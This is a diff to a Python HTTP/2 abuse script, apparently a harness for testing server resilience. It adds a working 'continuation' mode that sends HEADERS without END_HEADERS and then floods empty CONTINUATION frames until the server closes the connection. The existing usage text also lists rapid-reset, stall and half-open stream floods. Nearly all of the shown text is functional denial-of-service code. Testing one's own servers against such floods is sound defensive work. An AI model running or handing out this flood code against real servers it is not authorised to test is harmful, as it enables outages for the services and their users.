@@ -12,6 +12,10 @@ usage:
   abuse_h2.py reset ADDR N PROJECT SERVICE
       N x (HEADERS + DATA + RST_STREAM) as fast as the socket takes them;
       prints "sent N".
+  abuse_h2.py continuation ADDR SECS
+      HEADERS without END_HEADERS, then empty CONTINUATION frames for
+      SECS seconds or until the server closes the connection; prints
+      "closed after S s" or "open after S s", and the frame count.
   abuse_h2.py halfopen ADDR N SECS
       N streams with HEADERS only (no request message, no end of stream),
       held SECS seconds, then the connection is closed; prints "opened K".
@@ -160,12 +164,48 @@ def halfopen(addr, n, secs):
     s.close()
 
 
+def continuation(addr, secs):
+    import hpack
+    import hyperframe.frame as hf
+    s, c = connect(addr)
+    pump(s, c, 0.5)
+    block = hpack.Encoder().encode(headers(addr))
+    h = hf.HeadersFrame(1, block)  # no END_HEADERS: CONTINUATION follows
+    s.sendall(h.serialize())
+    empty = hf.ContinuationFrame(1).serialize()
+    t0 = time.monotonic()
+    sent = 0
+    closed = False
+    s.setblocking(False)
+    while time.monotonic() - t0 < secs and not closed:
+        try:
+            s.send(empty * 64)
+            sent += 64
+        except BlockingIOError:
+            select.select([s], [s], [], 0.05)
+        except OSError:
+            closed = True
+            break
+        try:
+            if s.recv(65536) == b"":
+                closed = True
+        except BlockingIOError:
+            pass
+        except OSError:
+            closed = True
+    print("%s after %.1f s, %d frames" % ("closed" if closed else "open",
+                                         time.monotonic() - t0, sent))
+    s.close()
+
+
 def main():
     mode, a = sys.argv[1], sys.argv[2:]
     if mode == "stall":
         stall(a[0], int(a[1]), a[2], a[3], float(a[4]))
     elif mode == "reset":
         reset(a[0], int(a[1]), a[2], a[3])
+    elif mode == "continuation":
+        continuation(a[0], float(a[1]))
     elif mode == "halfopen":
         halfopen(a[0], int(a[1]), float(a[2]))
     else:
